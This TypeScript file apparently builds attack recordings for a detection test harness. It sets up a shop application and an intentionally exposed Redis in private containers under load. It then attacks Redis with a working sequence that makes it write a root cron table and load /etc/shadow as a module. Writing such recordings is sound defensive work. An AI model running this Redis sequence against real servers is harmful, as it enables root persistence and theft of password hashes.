import { connect } from 'node:net';
import type { Engine } from '../containers/engine.ts';
import { acts, openShop } from '../containers/shop.ts';
import { waitFor } from '../support/wait.ts';

/** A real workload under load that runs in a private engine, and an attack on it. */
interface RunningWorkload {
  /** The attack, through the workload itself: nothing is executed from outside. */
  attack(): Promise<void>;
  stopLoad(): void;
}

/** What a recording in this folder is made of. */
export interface RecordedWorkload {
  readonly name: string;
  /** Starts it; answers when it is under load. */
  start(engine: Engine): Promise<RunningWorkload>;
}

const sleep = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

/** nginx, redis and a Perl application; the intruder comes in through a hole of the application. */
const shop: RecordedWorkload = {
  name: 'shop',
  async start(engine) {
    const running = await openShop(engine);
    running.startLoad();
    return {
      async attack() {
        for (const { command } of acts) {
          await running.exploit(command);
          await sleep(500);
        }
      },
      stopLoad: () => {
        running.stopLoad();
      },
    };
  },
};

/**
 * Redis that anyone may ask; the intruder makes it write its database as a cron table (the worm's way in since 2015, ATT&CK T1053.003), then
 * reads `/etc/shadow` by loading a module from it.
 */
const redis: RecordedWorkload = {
  name: 'redis',
  async start(engine) {
    const image = await engine.debianImage();
    const arguments_ = ['--bind', '0.0.0.0', '--protected-mode', 'no', '--save', '5 10', '--dir', '/var/lib/redis'];
    const open = ['--enable-protected-configs', 'yes', '--enable-module-command', 'yes'];
    await engine.cli('run', '-d', '--name', 'queue', image, '/usr/bin/redis-server', ...arguments_, ...open);
    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'queue');
    await waitFor('redis to answer', () => talk(host, ['PING']).then((answer) => answer.includes('PONG'), () => false), 30_000);
    let writes = 0;
    const timer = setInterval(() => {
      talk(host, [`SET key${writes++ % 100} value`, 'GET key1']).catch(() => undefined);
    }, 100);
    return {
      async attack() {
        await talk(host, [
          'CONFIG SET dir /etc/cron.d',
          'CONFIG SET dbfilename update',
          'SET job "\\n* * * * * root id\\n"',
          'SAVE',
          'MODULE LOAD /etc/shadow',
        ]);
      },
      stopLoad: () => {
        clearInterval(timer);
      },
    };
  },
};

/** Sends commands in Redis' inline protocol; answers all answers. */
function talk(host: string, commands: readonly string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect({ host, port: 6379, timeout: 10_000 }, () => {
      socket.write([...commands, 'QUIT', ''].join('\r\n'));
    });
    socket.setEncoding('utf8').on('data', (text: string) => {
      answer += text;
    });
    socket.on('error', reject);
    socket.on('timeout', () => socket.destroy(new Error('redis does not answer')));
    socket.on('close', (failed) => {
      if (!failed) resolve(answer);
    });
  });
}

export const recordedWorkloads: readonly RecordedWorkload[] = [shop, redis];
